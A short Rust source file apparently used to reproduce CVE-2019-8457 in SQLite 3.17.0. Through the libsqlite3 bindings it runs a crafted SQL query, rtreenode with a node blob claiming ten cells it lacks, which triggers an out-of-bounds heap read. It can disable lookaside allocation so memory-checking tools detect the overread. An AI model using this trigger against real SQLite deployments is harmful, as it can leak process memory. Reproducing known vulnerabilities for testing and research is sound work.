//! CVE-2019-8457 in SQLite 3.17.0: `rtreenode()` believes a count that stands in its argument, and reads as many cells
//! past the end of it. An ordinary run shows nothing.

use std::ffi::{CStr, c_int};
use std::ptr::null_mut;

use libsqlite3_sys as sqlite;

/// A node that says it has 10 cells, and has none: 10 times 24 bytes are read behind its 4.
const QUERY: &CStr = c"SELECT length(rtreenode(2, x'0000000A'))";

/// Asks. With `lookaside` SQLite takes small blocks from one block of its own, in which no tool that guards pages sees
/// where one of them ends.
pub fn ask(lookaside: bool) {
    let mut connection = null_mut();
    // SAFETY: the strings end in zero, the connection is used between its opening and closing only, and each call has
    // the arguments that its documentation names.
    unsafe {
        if !lookaside {
            assert_eq!(sqlite::sqlite3_config(sqlite::SQLITE_CONFIG_LOOKASIDE, 0 as c_int, 0 as c_int), sqlite::SQLITE_OK);
        }
        assert_eq!(sqlite::sqlite3_open(c":memory:".as_ptr(), &mut connection), sqlite::SQLITE_OK);
        let mut statement = null_mut();
        let prepared = sqlite::sqlite3_prepare_v2(connection, QUERY.as_ptr(), -1, &mut statement, null_mut());
        assert_eq!(prepared, sqlite::SQLITE_OK, "{:?}", CStr::from_ptr(sqlite::sqlite3_errmsg(connection)));
        assert_eq!(sqlite::sqlite3_step(statement), sqlite::SQLITE_ROW);
        println!("{} bytes of text", sqlite::sqlite3_column_int(statement, 0));
        sqlite::sqlite3_finalize(statement);
        sqlite::sqlite3_close(connection);
        let version = CStr::from_ptr(sqlite::sqlite3_libversion());
        println!("SQLite {} lived through it", version.to_string_lossy());
    }
}
